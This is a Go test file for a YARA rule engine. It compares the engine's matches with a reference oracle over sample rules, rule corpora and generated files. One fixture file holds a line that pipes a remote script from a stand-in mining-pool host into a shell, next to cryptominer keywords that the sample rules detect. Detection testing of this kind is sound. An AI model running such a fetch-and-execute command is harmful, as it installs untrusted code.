package yara

import (
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// corpusExternals are the external variables that public rule sets expect.
var corpusExternals = map[string]any{"filename": "run.sh", "filepath": "/tmp/x", "extension": ".sh", "filetype": "ELF", "owner": "root"}

// corpus reads every file of rules below DEMINER_CORPORA that the oracle compiles, each in a namespace of its own.
func corpus(t testing.TB) (sources []Source) {
	root := os.Getenv("DEMINER_CORPORA")
	if root == "" {
		return nil
	}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !slices.Contains([]string{".yar", ".yara"}, filepath.Ext(p)) {
			return err
		}
		text, err := os.ReadFile(p)
		sources = append(sources, Source{Name: p, Namespace: "n" + strings.TrimSuffix(filepath.Base(p), filepath.Ext(p)), Text: string(text)})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return sources
}

// TestOracle compares on a small tree: one process of the oracle and one set of the engine hold all sources, and look at each file once. With DEMINER_CORPORA every file
// of rules below it is taken, and files made of their strings; with DEMINER_ORACLE_FILES every file that list names, one a line, and of every second one a copy that is
// changed or cut. DEMINER_ORACLE_NTH takes every nth of them only.
func TestOracle(t *testing.T) {
	sources := append(corpus(t), Source{Name: "sample.yar", Namespace: "sample", Text: sampleRules})
	files := sampleFiles(t)
	if len(sources) > 1 {
		files = append(files, positives(t, sources)...)
	}
	files = append(files, listed(t)...)
	if nth, err := strconv.Atoi(os.Getenv("DEMINER_ORACLE_NTH")); err == nil && nth > 1 {
		some := files[:0]
		for i := nth / 2; i < len(files); i += nth {
			some = append(some, files[i])
		}
		files = some
	}
	differ, lines := compareAll(t, sources, corpusExternals, files)
	t.Logf("%d sources, %d files, %d lines, %d files differ", len(sources), len(files), lines, differ)
	if lines == 0 {
		t.Error("the oracle found nothing: the comparison says nothing")
	}
}

// listed gives the files of DEMINER_ORACLE_FILES, and changed and cut copies.
func listed(t *testing.T) (files []string) {
	list, err := os.ReadFile(os.Getenv("DEMINER_ORACLE_FILES"))
	if err != nil {
		return nil
	}
	g, dir := rand.New(rand.NewPCG(7, 8)), t.TempDir()
	for i, name := range strings.Fields(string(list)) {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, name)
		if i%2 == 0 {
			p := filepath.Join(dir, strconv.Itoa(i))
			if err := os.WriteFile(p, damaged(g, data, 1+i/2), 0o600); err != nil {
				t.Fatal(err)
			}
			files = append(files, p)
		}
	}
	return files
}

const sampleRules = `
import "pe" import "elf" import "math" import "hash"
rule text : a b { strings: $a = "root" nocase $b = "miner" wide ascii fullword $c = "pool" xor $d = "stratum" base64 condition: any of them }
rule bytes { strings: $a = { 7F 45 4C 46 [0-12] 00 } $b = { 4D ( 5A | 5B ) ?0 } $c = { E8 ?? ?? ?? FF } condition: any of them }
rule regex { strings: $a = /[a-z]+@[a-z]+\.org/ $b = /https?:\/\/[^ ]{3,40}/ $c = /ab?c*d{1,3}/i condition: any of them }
rule elf_file { condition: uint32(0) == 0x464c457f and elf.number_of_sections > 0 and elf.machine == elf.EM_X86_64 }
rule pe_file { condition: pe.is_pe and for any s in pe.sections : (s.name == ".text") }
rule numbers { condition: math.entropy(0, filesize) > 4.0 and hash.md5(0, 16) != "x" }
`

// sampleFiles makes files that the sample rules and others find something in.
func sampleFiles(t *testing.T) (paths []string) {
	dir := t.TempDir()
	for name, text := range map[string]string{
		"script":  "#!/bin/sh\ncurl -s https://pool.example.org/x.sh | sh # root ROOT miner m\x00i\x00n\x00e\x00r\x00 c3RyYXR1bQ== abcddd\n",
		"elf":     "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00" + strings.Repeat("\x00\x01\xe8abc\xff", 40),
		"dos":     "MZ\x90\x00" + strings.Repeat("\x00", 56) + "\x40\x00\x00\x00PE\x00\x00L\x01" + strings.Repeat("a", 300) + "qpjm qnnm",
		"empty":   "",
		"one":     "a",
		"repeats": strings.Repeat("abcd root ", 500),
	} {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return append(paths, exe)
}
